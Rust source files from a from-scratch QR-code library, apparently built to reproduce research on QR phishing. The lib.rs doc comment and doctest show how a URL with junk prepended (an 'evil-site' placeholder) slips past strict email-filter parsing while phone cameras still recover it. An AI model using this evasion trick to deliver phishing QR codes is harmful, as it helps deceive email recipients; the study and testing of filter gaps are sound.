        let clean: Vec<u8> = data.iter().chain(&parity).copied().collect();
        for pos in 0..clean.len() {
            let mut cw = clean.clone();
            cw[pos] ^= 0x42;
            assert_eq!(correct(&mut cw, ec), Ok(1), "position {pos}");
            assert_eq!(cw, clean);
        }
    }

    #[test]
    fn parity_of_empty_data_is_zero() {
        assert_eq!(encode(&[], 4), vec![0, 0, 0, 0]);
    }
}
