//! MSB-first bit stream writer and reader used by segment encoding.

/// Accumulates bits most-significant-first into bytes.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct BitWriter {
    bits: Vec<bool>,
}

impl BitWriter {
    /// An empty writer.
    pub fn new() -> Self {
        Self::default()
    }

    /// Append the low `width` bits of `value`, most significant first.
    ///
    /// # Panics
    ///
    /// Panics if `width > 32` or `value` does not fit in `width` bits.
    pub fn push(&mut self, value: u32, width: usize) {
        assert!(width <= 32, "width > 32");
        assert!(
            width == 32 || value < (1u32 << width),
            "value {value} does not fit in {width} bits"
        );
        for i in (0..width).rev() {
            self.bits.push(value >> i & 1 == 1);
        }
    }

    /// Append a single bit.
    pub fn push_bit(&mut self, bit: bool) {
        self.bits.push(bit);
    }

    /// Number of bits written so far.
    pub fn len(&self) -> usize {
        self.bits.len()
    }

    /// `true` if no bits have been written.
    pub fn is_empty(&self) -> bool {
        self.bits.is_empty()
    }

    /// Pack into bytes, zero-padding the final partial byte.
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut out = vec![0u8; self.bits.len().div_ceil(8)];
        for (i, &b) in self.bits.iter().enumerate() {
            if b {
                out[i / 8] |= 1 << (7 - i % 8);
            }
        }
        out
    }
}

/// Reads bits most-significant-first from a byte slice.
#[derive(Debug, Clone)]
pub struct BitReader<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> BitReader<'a> {
    /// A reader over `bytes` starting at bit 0.
    pub fn new(bytes: &'a [u8]) -> Self {
        BitReader { bytes, pos: 0 }
    }

    /// Read `width` bits (≤ 32) as an integer, or `None` if the stream is
    /// exhausted.
    pub fn read(&mut self, width: usize) -> Option<u32> {
        assert!(width <= 32, "width > 32");
        if self.pos + width > self.bytes.len() * 8 {
            return None;
        }
        let mut v = 0u32;
        for _ in 0..width {
            let byte = self.bytes[self.pos / 8];
            let bit = byte >> (7 - self.pos % 8) & 1;
            v = (v << 1) | bit as u32;
            self.pos += 1;
        }
        Some(v)
    }

    /// Bits remaining.
    pub fn remaining(&self) -> usize {
        self.bytes.len() * 8 - self.pos
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn write_read_round_trip() {
        let mut w = BitWriter::new();
        w.push(0b0100, 4); // byte-mode indicator
        w.push(17, 8);
        w.push(0xABCD, 16);
        let bytes = w.to_bytes();
        let mut r = BitReader::new(&bytes);
        assert_eq!(r.read(4), Some(0b0100));
        assert_eq!(r.read(8), Some(17));
        assert_eq!(r.read(16), Some(0xABCD));
    }

    #[test]
    fn partial_final_byte_zero_padded() {
        let mut w = BitWriter::new();
        w.push(0b101, 3);
        assert_eq!(w.to_bytes(), vec![0b1010_0000]);
        assert_eq!(w.len(), 3);
    }

    #[test]
    fn reader_exhaustion_returns_none() {
        let mut r = BitReader::new(&[0xFF]);
        assert_eq!(r.read(8), Some(0xFF));
        assert_eq!(r.read(1), None);
        assert_eq!(r.remaining(), 0);
    }

    #[test]
    fn single_bits() {
        let mut w = BitWriter::new();
        for b in [true, false, true, true] {
            w.push_bit(b);
        }
        let bytes = w.to_bytes();
        let mut r = BitReader::new(&bytes);
        assert_eq!(r.read(4), Some(0b1011));
    }

    #[test]
    #[should_panic(expected = "does not fit")]
    fn oversized_value_panics() {
        BitWriter::new().push(16, 4);
    }

    #[test]
    fn full_width_32_accepted() {
        let mut w = BitWriter::new();
        w.push(u32::MAX, 32);
        let bytes = w.to_bytes();
        let mut r = BitReader::new(&bytes);
        assert_eq!(r.read(32), Some(u32::MAX));
    }
}
