//! Byte-mode QR encoding: segment bit stream, block splitting, Reed–Solomon
//! parity, interleaving, mask selection.

use crate::bits::BitWriter;
use crate::matrix::QrMatrix;
use crate::reed_solomon;
use crate::tables::{block_info, byte_mode_count_bits, BlockInfo, EcLevel, MAX_VERSION};
use std::fmt;

/// Byte-mode indicator.
const MODE_BYTE: u32 = 0b0100;
/// Alternating pad codewords from the spec.
const PAD_BYTES: [u8; 2] = [0xEC, 0x11];

/// Errors from encoding.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum EncodeError {
    /// The payload exceeds the capacity of version [`MAX_VERSION`] at the
    /// requested EC level.
    TooLong {
        /// Payload length in bytes.
        len: usize,
        /// Maximum supported at this level.
        max: usize,
    },
}

impl fmt::Display for EncodeError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            EncodeError::TooLong { len, max } => {
                write!(f, "payload of {len} bytes exceeds capacity {max}")
            }
        }
    }
}

impl std::error::Error for EncodeError {}

/// A fully encoded QR symbol.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct QrSymbol {
    matrix: QrMatrix,
    version: usize,
    level: EcLevel,
    mask: u8,
}

impl QrSymbol {
    /// The module grid.
    pub fn matrix(&self) -> &QrMatrix {
        &self.matrix
    }

    /// Symbol version.
    pub fn version(&self) -> usize {
        self.version
    }

    /// Error-correction level.
    pub fn level(&self) -> EcLevel {
        self.level
    }

    /// The mask pattern that won penalty selection.
    pub fn mask(&self) -> u8 {
        self.mask
    }
}

/// Byte capacity of `(version, level)` for a single byte-mode segment.
pub fn byte_capacity(version: usize, level: EcLevel) -> usize {
    let capacity_bits = block_info(version, level).total_data() * 8;
    let overhead = 4 + byte_mode_count_bits(version);
    capacity_bits.saturating_sub(overhead) / 8
}

/// Smallest version that fits `len` payload bytes at `level`.
fn choose_version(len: usize, level: EcLevel) -> Result<usize, EncodeError> {
    for v in 1..=MAX_VERSION {
        if byte_capacity(v, level) >= len {
            return Ok(v);
        }
    }
    Err(EncodeError::TooLong {
        len,
        max: byte_capacity(MAX_VERSION, level),
    })
}

/// Build the padded data-codeword sequence for `payload`.
fn build_data_codewords(payload: &[u8], version: usize, level: EcLevel) -> Vec<u8> {
    let info = block_info(version, level);
    let capacity_bits = info.total_data() * 8;
    let mut w = BitWriter::new();
    w.push(MODE_BYTE, 4);
    w.push(payload.len() as u32, byte_mode_count_bits(version));
    for &b in payload {
        w.push(b as u32, 8);
    }
    // Terminator: up to 4 zero bits.
    let terminator = (capacity_bits - w.len()).min(4);
    w.push(0, terminator);
    // Pad to byte boundary.
    let to_byte = (8 - w.len() % 8) % 8;
    w.push(0, to_byte);
    let mut codewords = w.to_bytes();
    // Pad codewords alternating 0xEC / 0x11.
    let mut i = 0;
    while codewords.len() < info.total_data() {
        codewords.push(PAD_BYTES[i % 2]);
        i += 1;
    }
    codewords
}

/// Split data codewords into blocks, append RS parity, and interleave.
pub(crate) fn interleave(data: &[u8], info: &BlockInfo) -> Vec<u8> {
    // Partition into blocks.
    let mut blocks: Vec<&[u8]> = Vec::new();
    let mut offset = 0;
    for _ in 0..info.g1_blocks {
        blocks.push(&data[offset..offset + info.g1_data]);
        offset += info.g1_data;
    }
    for _ in 0..info.g2_blocks {
        blocks.push(&data[offset..offset + info.g2_data]);
        offset += info.g2_data;
    }
    let parities: Vec<Vec<u8>> = blocks
        .iter()
        .map(|b| reed_solomon::encode(b, info.ec_per_block))
        .collect();

    let max_data = info.g1_data.max(info.g2_data);
    let mut out = Vec::with_capacity(info.total_codewords());
    for col in 0..max_data {
        for b in &blocks {
            if col < b.len() {
                out.push(b[col]);
            }
        }
    }
    for col in 0..info.ec_per_block {
        for p in &parities {
            out.push(p[col]);
        }
    }
    out
}

/// Encode `payload` in byte mode at the given EC level, selecting the
/// smallest fitting version (1–10) and the penalty-optimal mask.
///
/// # Errors
///
/// Returns [`EncodeError::TooLong`] if the payload does not fit version 10.
pub fn encode_bytes(payload: &[u8], level: EcLevel) -> Result<QrSymbol, EncodeError> {
    let version = choose_version(payload.len(), level)?;
    let info = block_info(version, level);
    let data = build_data_codewords(payload, version, level);
    debug_assert_eq!(data.len(), info.total_data());
    let stream = interleave(&data, &info);

    let bits: Vec<bool> = stream
        .iter()
        .flat_map(|&b| (0..8).rev().map(move |i| b >> i & 1 == 1))
        .collect();

    let mut best: Option<(u32, QrMatrix, u8)> = None;
    for mask in 0..8u8 {
        let mut m = QrMatrix::new(version);
        m.place_data(&bits);
        m.apply_mask(mask);
        m.write_format(level, mask);
        let p = m.penalty();
        if best.as_ref().map(|(bp, _, _)| p < *bp).unwrap_or(true) {
            best = Some((p, m, mask));
        }
    }
    let (_, matrix, mask) = best.expect("eight masks evaluated");
    Ok(QrSymbol {
        matrix,
        version,
        level,
        mask,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn capacities_match_known_values() {
        // Published byte-mode capacities.
        assert_eq!(byte_capacity(1, EcLevel::L), 17);
        assert_eq!(byte_capacity(1, EcLevel::M), 14);
        assert_eq!(byte_capacity(1, EcLevel::H), 7);
        assert_eq!(byte_capacity(4, EcLevel::L), 78);
        assert_eq!(byte_capacity(10, EcLevel::L), 271);
        assert_eq!(byte_capacity(10, EcLevel::H), 119);
    }

    #[test]
    fn version_selection_is_minimal() {
        assert_eq!(choose_version(17, EcLevel::L), Ok(1));
        assert_eq!(choose_version(18, EcLevel::L), Ok(2));
        assert_eq!(choose_version(271, EcLevel::L), Ok(10));
        assert!(choose_version(272, EcLevel::L).is_err());
    }

    #[test]
    fn data_codewords_are_padded_to_capacity() {
        let cw = build_data_codewords(b"AB", 1, EcLevel::M);
        assert_eq!(cw.len(), 16);
        // mode+count+2 bytes = 4+8+16 = 28 bits -> terminator 4 -> 4 bytes
        // then padding alternates EC 11 EC 11 ...
        assert_eq!(cw[4], 0xEC);
        assert_eq!(cw[5], 0x11);
        assert_eq!(cw[6], 0xEC);
    }

    #[test]
    fn interleave_multi_block_order() {
        // v3-Q: 2 blocks x 17 data, ec 18. Data 0..34.
        let data: Vec<u8> = (0..34).collect();
        let info = block_info(3, EcLevel::Q);
        let out = interleave(&data, &info);
        assert_eq!(out.len(), 70);
        // interleaved data: d0 of block1 (0), d0 of block2 (17), d1 (1), ...
        assert_eq!(&out[..6], &[0, 17, 1, 18, 2, 19]);
    }

    #[test]
    fn interleave_uneven_groups() {
        // v10-L: 2x68 + 2x69 data, ec 18.
        let info = block_info(10, EcLevel::L);
        let data: Vec<u8> = (0..info.total_data() as u16).map(|x| (x % 251) as u8).collect();
        let out = interleave(&data, &info);
        assert_eq!(out.len(), 346);
    }

    #[test]
    fn encoded_symbol_has_valid_format() {
        let s = encode_bytes(b"https://example.test/a", EcLevel::M).unwrap();
        assert_eq!(s.matrix().read_format(), Some((EcLevel::M, s.mask())));
        assert_eq!(s.version(), 2);
    }

    #[test]
    fn empty_payload_encodes() {
        let s = encode_bytes(b"", EcLevel::H).unwrap();
        assert_eq!(s.version(), 1);
    }

    #[test]
    fn long_payload_selects_high_version() {
        let payload = vec![b'x'; 200];
        let s = encode_bytes(&payload, EcLevel::L).unwrap();
        assert!(s.version() >= 8, "version {}", s.version());
    }

    #[test]
    fn oversized_payload_rejected() {
        let payload = vec![b'x'; 300];
        assert!(matches!(
            encode_bytes(&payload, EcLevel::L),
            Err(EncodeError::TooLong { .. })
        ));
    }
}
