//! The QR module grid: function patterns, format/version information,
//! zigzag data placement, masking, and penalty scoring.
//!
//! Coordinates are `(row, col)` with the origin at the top-left module.

use crate::tables::{alignment_centers, symbol_size, EcLevel, MAX_VERSION};

/// BCH(15,5) generator for format information.
const FORMAT_GEN: u32 = 0b101_0011_0111;
/// XOR mask applied to the encoded format bits.
const FORMAT_MASK: u32 = 0b101_0100_0001_0010;
/// BCH(18,6) generator for version information.
const VERSION_GEN: u32 = 0b1_1111_0010_0101;

/// Encode the 5 format data bits (EC level ‖ mask id) into the masked 15-bit
/// format string.
pub fn encode_format(level: EcLevel, mask: u8) -> u32 {
    let data = ((level.format_bits() as u32) << 3) | mask as u32;
    let mut rem = data << 10;
    for i in (10..15).rev() {
        if rem >> i & 1 == 1 {
            rem ^= FORMAT_GEN << (i - 10);
        }
    }
    ((data << 10) | rem) ^ FORMAT_MASK
}

/// Decode a (possibly corrupted) 15-bit format string by exhaustive
/// minimum-distance matching over all 32 valid codewords. Tolerates up to 3
/// bit errors (the code's design distance is 7).
pub fn decode_format(bits: u32) -> Option<(EcLevel, u8)> {
    let mut best: Option<(u32, EcLevel, u8)> = None;
    for level in [EcLevel::L, EcLevel::M, EcLevel::Q, EcLevel::H] {
        for mask in 0..8u8 {
            let cand = encode_format(level, mask);
            let dist = (cand ^ bits).count_ones();
            if best.map(|(d, _, _)| dist < d).unwrap_or(true) {
                best = Some((dist, level, mask));
            }
        }
    }
    best.and_then(|(d, l, m)| if d <= 3 { Some((l, m)) } else { None })
}

/// Encode the 18-bit version information string for `version` (≥ 7).
pub fn encode_version_info(version: usize) -> u32 {
    let data = version as u32;
    let mut rem = data << 12;
    for i in (12..18).rev() {
        if rem >> i & 1 == 1 {
            rem ^= VERSION_GEN << (i - 12);
        }
    }
    (data << 12) | rem
}

/// The module grid of one QR symbol.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct QrMatrix {
    version: usize,
    size: usize,
    /// Dark = true.
    modules: Vec<bool>,
    /// Function-pattern / reserved positions (not data).
    reserved: Vec<bool>,
}

impl QrMatrix {
    /// A fresh matrix for `version` with all function patterns drawn and the
    /// format/version areas reserved.
    ///
    /// # Panics
    ///
    /// Panics if `version` is outside `1..=MAX_VERSION`.
    pub fn new(version: usize) -> Self {
        assert!(
            (1..=MAX_VERSION).contains(&version),
            "version {version} unsupported"
        );
        let size = symbol_size(version);
        let mut m = QrMatrix {
            version,
            size,
            modules: vec![false; size * size],
            reserved: vec![false; size * size],
        };
        m.draw_finders();
        m.draw_timing();
        m.draw_alignment();
        m.reserve_format_areas();
        if version >= 7 {
            m.draw_version_info();
        }
        // Dark module at (4*version + 9, 8).
        m.set(4 * version + 9, 8, true);
        m.reserve(4 * version + 9, 8);
        m
    }

    /// Symbol version (1–10).
    pub fn version(&self) -> usize {
        self.version
    }

    /// Side length in modules.
    pub fn size(&self) -> usize {
        self.size
    }

    /// Module at `(row, col)`; `true` is dark.
    pub fn get(&self, row: usize, col: usize) -> bool {
        self.modules[row * self.size + col]
    }

    /// Set module at `(row, col)`.
    pub fn set(&mut self, row: usize, col: usize, dark: bool) {
        self.modules[row * self.size + col] = dark;
    }

    /// `true` if `(row, col)` is a function-pattern / reserved position.
    pub fn is_reserved(&self, row: usize, col: usize) -> bool {
        self.reserved[row * self.size + col]
    }

    fn reserve(&mut self, row: usize, col: usize) {
        self.reserved[row * self.size + col] = true;
    }

    fn draw_finders(&mut self) {
        let n = self.size;
        for &(r0, c0) in &[(0usize, 0usize), (0, n - 7), (n - 7, 0)] {
            // 7x7 finder
            for dr in 0..7 {
                for dc in 0..7 {
                    let dark = dr == 0
                        || dr == 6
                        || dc == 0
                        || dc == 6
                        || ((2..=4).contains(&dr) && (2..=4).contains(&dc));
                    self.set(r0 + dr, c0 + dc, dark);
                    self.reserve(r0 + dr, c0 + dc);
                }
            }
            // separator ring (light)
            for dr in -1i32..=7 {
                for dc in -1i32..=7 {
                    let r = r0 as i32 + dr;
                    let c = c0 as i32 + dc;
                    if (0..n as i32).contains(&r)
                        && (0..n as i32).contains(&c)
                        && !self.is_reserved(r as usize, c as usize)
                    {
                        self.set(r as usize, c as usize, false);
                        self.reserve(r as usize, c as usize);
                    }
                }
            }
        }
    }

    fn draw_timing(&mut self) {
        for i in 8..self.size - 8 {
            if !self.is_reserved(6, i) {
                self.set(6, i, i % 2 == 0);
                self.reserve(6, i);
            }
            if !self.is_reserved(i, 6) {
                self.set(i, 6, i % 2 == 0);
                self.reserve(i, 6);
            }
        }
    }

    fn draw_alignment(&mut self) {
        let centers = alignment_centers(self.version);
        for &cr in centers {
            for &cc in centers {
                // skip patterns overlapping finders
                let overlaps_finder = self.is_reserved(cr, cc)
                    && !(self.get(6, cc) && cr == 6 || self.get(cr, 6) && cc == 6);
                // robust check: skip if the 5x5 area touches a finder corner zone
                let near_finder = (cr <= 8 && (cc <= 8 || cc >= self.size - 9))
                    || (cr >= self.size - 9 && cc <= 8);
                if near_finder {
                    let _ = overlaps_finder;
                    continue;
                }
                for dr in -2i32..=2 {
                    for dc in -2i32..=2 {
                        let r = (cr as i32 + dr) as usize;
                        let c = (cc as i32 + dc) as usize;
                        let dark = dr.abs() == 2 || dc.abs() == 2 || (dr == 0 && dc == 0);
                        self.set(r, c, dark);
                        self.reserve(r, c);
                    }
                }
            }
        }
    }

    fn reserve_format_areas(&mut self) {
        let n = self.size;
        for i in 0..9 {
            if i != 6 {
                self.reserve(8, i);
                self.reserve(i, 8);
            }
        }
        for i in 0..8 {
            self.reserve(8, n - 1 - i);
            self.reserve(n - 1 - i, 8);
        }
    }

    fn draw_version_info(&mut self) {
        let info = encode_version_info(self.version);
        let n = self.size;
        // 6x3 blocks: bottom-left (rows n-11..n-9, cols 0..6) and top-right
        // (rows 0..6, cols n-11..n-9). Bit 0 (LSB) goes first.
        for i in 0..18 {
            let bit = info >> i & 1 == 1;
            let row = i / 3;
            let col = n - 11 + i % 3;
            self.set(row, col, bit);
            self.reserve(row, col);
            self.set(col, row, bit);
            self.reserve(col, row);
        }
    }

    /// Write the format information for `(level, mask)` into both copies.
    pub fn write_format(&mut self, level: EcLevel, mask: u8) {
        let bits = encode_format(level, mask);
        let n = self.size;
        let get_bit = |i: usize| bits >> i & 1 == 1; // i = 0 is LSB
        // Copy 1 around top-left finder: bit 14 (MSB) first along row 8
        // cols 0..=5,7,8 then up column 8 rows 7,5..=0.
        let coords_a = [
            (8usize, 0usize),
            (8, 1),
            (8, 2),
            (8, 3),
            (8, 4),
            (8, 5),
            (8, 7),
            (8, 8),
            (7, 8),
            (5, 8),
            (4, 8),
            (3, 8),
            (2, 8),
            (1, 8),
            (0, 8),
        ];
        for (idx, &(r, c)) in coords_a.iter().enumerate() {
            self.set(r, c, get_bit(14 - idx));
        }
        // Copy 2: bits 14..8 down column 8 from bottom, bits 7..0 along row 8
        // from the right.
        for i in 0..7 {
            self.set(n - 1 - i, 8, get_bit(14 - i));
        }
        for i in 0..8 {
            self.set(8, n - 8 + i, get_bit(7 - i));
        }
    }

    /// Read both format-information copies, returning the first that decodes.
    pub fn read_format(&self) -> Option<(EcLevel, u8)> {
        let n = self.size;
        let coords_a = [
            (8usize, 0usize),
            (8, 1),
            (8, 2),
            (8, 3),
            (8, 4),
            (8, 5),
            (8, 7),
            (8, 8),
            (7, 8),
            (5, 8),
            (4, 8),
            (3, 8),
            (2, 8),
            (1, 8),
            (0, 8),
        ];
        let mut a = 0u32;
        for &(r, c) in &coords_a {
            a = (a << 1) | self.get(r, c) as u32;
        }
        let mut b = 0u32;
        for i in 0..7 {
            b = (b << 1) | self.get(n - 1 - i, 8) as u32;
        }
        for i in 0..8 {
            b = (b << 1) | self.get(8, n - 8 + i) as u32;
        }
        decode_format(a).or_else(|| decode_format(b))
    }

    /// The zigzag traversal order of data-module positions.
    pub fn data_positions(&self) -> Vec<(usize, usize)> {
        let n = self.size;
        let mut out = Vec::new();
        let mut col = n as i32 - 1;
        let mut upward = true;
        while col > 0 {
            if col == 6 {
                col -= 1; // skip the vertical timing column entirely
            }
            let rows: Vec<usize> = if upward {
                (0..n).rev().collect()
            } else {
                (0..n).collect()
            };
            for r in rows {
                for dc in 0..2 {
                    let c = (col - dc) as usize;
                    if !self.is_reserved(r, c) {
                        out.push((r, c));
                    }
                }
            }
            upward = !upward;
            col -= 2;
        }
        out
    }

    /// Place data bits along the zigzag order. Unfilled trailing positions
    /// (remainder bits) stay light.
    pub fn place_data(&mut self, bits: &[bool]) {
        let positions = self.data_positions();
        for (i, &(r, c)) in positions.iter().enumerate() {
            self.set(r, c, bits.get(i).copied().unwrap_or(false));
        }
    }

    /// Read data bits back in zigzag order.
    pub fn extract_data_bits(&self) -> Vec<bool> {
        self.data_positions()
            .iter()
            .map(|&(r, c)| self.get(r, c))
            .collect()
    }

    /// Whether mask `mask` inverts position `(r, c)`.
    pub fn mask_bit(mask: u8, r: usize, c: usize) -> bool {
        match mask {
            0 => (r + c).is_multiple_of(2),
            1 => r.is_multiple_of(2),
            2 => c.is_multiple_of(3),
            3 => (r + c).is_multiple_of(3),
            4 => (r / 2 + c / 3).is_multiple_of(2),
            5 => (r * c) % 2 + (r * c) % 3 == 0,
            6 => ((r * c) % 2 + (r * c) % 3).is_multiple_of(2),
            7 => ((r + c) % 2 + (r * c) % 3).is_multiple_of(2),
            _ => panic!("mask {mask} out of range 0..8"),
        }
    }

    /// XOR the mask over every non-reserved module (involutive).
    pub fn apply_mask(&mut self, mask: u8) {
        for r in 0..self.size {
            for c in 0..self.size {
                if !self.is_reserved(r, c) && Self::mask_bit(mask, r, c) {
                    let v = self.get(r, c);
                    self.set(r, c, !v);
                }
            }
        }
    }

    /// ISO 18004 §8.8.2 penalty score (lower is better).
    pub fn penalty(&self) -> u32 {
        let n = self.size;
        let mut score = 0u32;

        // Rule 1: runs of ≥5 same-colour modules in a row/column.
        for r in 0..n {
            let mut run = 1;
            for c in 1..n {
                if self.get(r, c) == self.get(r, c - 1) {
                    run += 1;
                } else {
                    if run >= 5 {
                        score += 3 + (run - 5);
                    }
                    run = 1;
                }
            }
            if run >= 5 {
                score += 3 + (run - 5);
            }
        }
        for c in 0..n {
            let mut run = 1;
            for r in 1..n {
                if self.get(r, c) == self.get(r - 1, c) {
                    run += 1;
                } else {
                    if run >= 5 {
                        score += 3 + (run - 5);
                    }
                    run = 1;
                }
            }
            if run >= 5 {
                score += 3 + (run - 5);
            }
        }

        // Rule 2: 2x2 blocks of same colour.
        for r in 0..n - 1 {
            for c in 0..n - 1 {
                let v = self.get(r, c);
                if v == self.get(r, c + 1) && v == self.get(r + 1, c) && v == self.get(r + 1, c + 1)
                {
                    score += 3;
                }
            }
        }

        // Rule 3: finder-like patterns 1011101 with 4 light on either side.
        let pat_a = [true, false, true, true, true, false, true, false, false, false, false];
        let pat_b = [false, false, false, false, true, false, true, true, true, false, true];
        for r in 0..n {
            for c in 0..n.saturating_sub(10) {
                let row_match = |p: &[bool; 11]| (0..11).all(|i| self.get(r, c + i) == p[i]);
                if row_match(&pat_a) || row_match(&pat_b) {
                    score += 40;
                }
                let col_match = |p: &[bool; 11]| (0..11).all(|i| self.get(c + i, r) == p[i]);
                if col_match(&pat_a) || col_match(&pat_b) {
                    score += 40;
                }
            }
        }

        // Rule 4: dark-module proportion deviation from 50%.
        let dark = self.modules.iter().filter(|&&b| b).count();
        let percent = dark * 100 / (n * n);
        let deviation = percent.abs_diff(50);
        score += (deviation / 5) as u32 * 10;

        score
    }

    /// Render as text: `#` for dark, `.` for light (debug aid).
    pub fn render_text(&self) -> String {
        let mut s = String::with_capacity((self.size + 1) * self.size);
        for r in 0..self.size {
            for c in 0..self.size {
                s.push(if self.get(r, c) { '#' } else { '.' });
            }
            s.push('\n');
        }
        s
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn format_bch_known_vectors() {
        // Data 00000 (M, mask 0): remainder 0, so result is the XOR mask.
        assert_eq!(encode_format(EcLevel::M, 0), FORMAT_MASK);
        // Published example: L + mask 4 -> 110011000101111.
        assert_eq!(encode_format(EcLevel::L, 4), 0b110_0110_0010_1111);
    }

    #[test]
    fn format_decode_round_trip_and_error_tolerance() {
        for level in [EcLevel::L, EcLevel::M, EcLevel::Q, EcLevel::H] {
            for mask in 0..8 {
                let enc = encode_format(level, mask);
                assert_eq!(decode_format(enc), Some((level, mask)));
                // flip 3 bits: still decodes
                let corrupted = enc ^ 0b101_0000_0000_0100 & 0x7FFF;
                assert_eq!(decode_format(corrupted), Some((level, mask)));
            }
        }
    }

    #[test]
    fn version_info_known_constants() {
        assert_eq!(encode_version_info(7), 0x07C94);
        assert_eq!(encode_version_info(8), 0x085BC);
        assert_eq!(encode_version_info(9), 0x09A99);
        assert_eq!(encode_version_info(10), 0x0A4D3);
    }

    #[test]
    fn finder_patterns_present() {
        let m = QrMatrix::new(1);
        // centers of the three finders are dark
        assert!(m.get(3, 3));
        assert!(m.get(3, 17));
        assert!(m.get(17, 3));
        // separator is light
        assert!(!m.get(7, 7));
        // dark module
        assert!(m.get(4 * 1 + 9, 8));
    }

    #[test]
    fn timing_pattern_alternates() {
        let m = QrMatrix::new(2);
        for i in 8..m.size() - 8 {
            assert_eq!(m.get(6, i), i % 2 == 0);
            assert_eq!(m.get(i, 6), i % 2 == 0);
        }
    }

    #[test]
    fn data_capacity_matches_spec() {
        // v1: 26 codewords * 8 = 208 data bit positions.
        let m = QrMatrix::new(1);
        assert_eq!(m.data_positions().len(), 208);
        // v2: 44 * 8 + 7 remainder = 359.
        let m = QrMatrix::new(2);
        assert_eq!(m.data_positions().len(), 359);
        // v7: 196 * 8 + 0 remainder.
        let m = QrMatrix::new(7);
        assert_eq!(m.data_positions().len(), 1568);
        // v10: 346 * 8.
        let m = QrMatrix::new(10);
        assert_eq!(m.data_positions().len(), 2768);
    }

    #[test]
    fn place_and_extract_round_trip() {
        let mut m = QrMatrix::new(3);
        let n = m.data_positions().len();
        let bits: Vec<bool> = (0..n).map(|i| i % 3 == 0).collect();
        m.place_data(&bits);
        assert_eq!(m.extract_data_bits(), bits);
    }

    #[test]
    fn mask_is_involutive() {
        let mut m = QrMatrix::new(2);
        let bits: Vec<bool> = (0..m.data_positions().len()).map(|i| i % 7 == 0).collect();
        m.place_data(&bits);
        let before = m.clone();
        for mask in 0..8 {
            m.apply_mask(mask);
            assert_ne!(m, before, "mask {mask} changed nothing");
            m.apply_mask(mask);
            assert_eq!(m, before, "mask {mask} not involutive");
        }
    }

    #[test]
    fn masks_do_not_touch_function_patterns() {
        let mut m = QrMatrix::new(4);
        let finder_center = m.get(3, 3);
        m.apply_mask(0);
        assert_eq!(m.get(3, 3), finder_center);
        assert_eq!(m.get(6, 10), 10 % 2 == 0); // timing untouched
    }

    #[test]
    fn format_write_read_round_trip() {
        for version in [1usize, 5, 10] {
            for level in [EcLevel::L, EcLevel::H] {
                for mask in [0u8, 3, 7] {
                    let mut m = QrMatrix::new(version);
                    m.write_format(level, mask);
                    assert_eq!(m.read_format(), Some((level, mask)), "v{version}");
                }
            }
        }
    }

    #[test]
    fn penalty_prefers_balanced_patterns() {
        // An all-dark data area scores much worse than alternating data.
        let mut uniform = QrMatrix::new(1);
        uniform.place_data(&vec![true; 208]);
        let mut alternating = QrMatrix::new(1);
        alternating.place_data(&(0..208).map(|i| i % 2 == 0).collect::<Vec<_>>());
        assert!(uniform.penalty() > alternating.penalty());
    }

    #[test]
    fn version_7_plus_reserves_version_areas() {
        let m = QrMatrix::new(7);
        let n = m.size();
        for i in 0..18 {
            assert!(m.is_reserved(i / 3, n - 11 + i % 3));
            assert!(m.is_reserved(n - 11 + i % 3, i / 3));
        }
    }

    #[test]
    fn render_text_shape() {
        let m = QrMatrix::new(1);
        let txt = m.render_text();
        assert_eq!(txt.lines().count(), 21);
        assert!(txt.lines().all(|l| l.len() == 21));
    }
}
