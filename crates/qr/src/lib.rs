#![warn(missing_docs)]

//! QR code substrate: a from-scratch ISO/IEC 18004 byte-mode implementation.
//!
//! The paper found QR codes at the centre of modern "quishing": malicious
//! URLs are embedded in QR images so the victim scans them with a *personal
//! phone*, sidestepping corporate defences — and 35 messages carried
//! **faulty QR codes** whose decoded payload is a syntactically broken URL
//! (`"xxx https://evil-site.com/"`). Mobile camera apps happily recover the
//! URL; two of three leading commercial email filters did not (§V-C1).
//!
//! Reproducing that bug requires a *real* QR stack, not a stub: this crate
//! implements GF(2⁸) arithmetic, Reed–Solomon encode/decode, symbol
//! construction for versions 1–10 at all four error-correction levels
//! (masking, format/version information, interleaving), full decoding, and
//! the two URL-extraction policies whose mismatch *is* the bug:
//! [`extract::extract_url_strict`] (email-filter behaviour) and
//! [`extract::extract_url_lenient`] (mobile-camera behaviour).
//!
//! # Example
//!
//! ```
//! use cb_qr::{encode_bytes, decode_matrix, EcLevel};
//! use cb_qr::extract::{extract_url_strict, extract_url_lenient};
//!
//! // A faulty payload as observed in the wild: junk before the URL.
//! let payload = b"xxx https://evil-site.example/dhfYWfH";
//! let symbol = encode_bytes(payload, EcLevel::M).unwrap();
//! let decoded = decode_matrix(symbol.matrix()).unwrap();
//!
//! // The email filter rejects it; the phone happily extracts the URL.
//! assert_eq!(extract_url_strict(&decoded), None);
//! assert_eq!(
//!     extract_url_lenient(&decoded).as_deref(),
//!     Some("https://evil-site.example/dhfYWfH"),
//! );
//! ```

pub mod bits;
pub mod decode;
pub mod encode;
pub mod extract;
pub mod gf256;
pub mod matrix;
pub mod reed_solomon;
pub mod tables;

pub use decode::{decode_matrix, DecodeError};
pub use encode::{encode_bytes, EncodeError, QrSymbol};
pub use matrix::QrMatrix;
pub use tables::EcLevel;
