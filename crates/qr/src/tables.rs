//! Version/error-correction tables from ISO/IEC 18004 for versions 1–10.

/// QR error-correction level.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum EcLevel {
    /// ~7% recovery.
    L,
    /// ~15% recovery (the default of most generators).
    M,
    /// ~25% recovery.
    Q,
    /// ~30% recovery.
    H,
}

impl EcLevel {
    /// The two-bit indicator placed in the format information.
    /// (Counter-intuitively, L = 0b01 and M = 0b00 in the spec.)
    pub fn format_bits(self) -> u8 {
        match self {
            EcLevel::L => 0b01,
            EcLevel::M => 0b00,
            EcLevel::Q => 0b11,
            EcLevel::H => 0b10,
        }
    }

    /// Inverse of [`format_bits`](Self::format_bits).
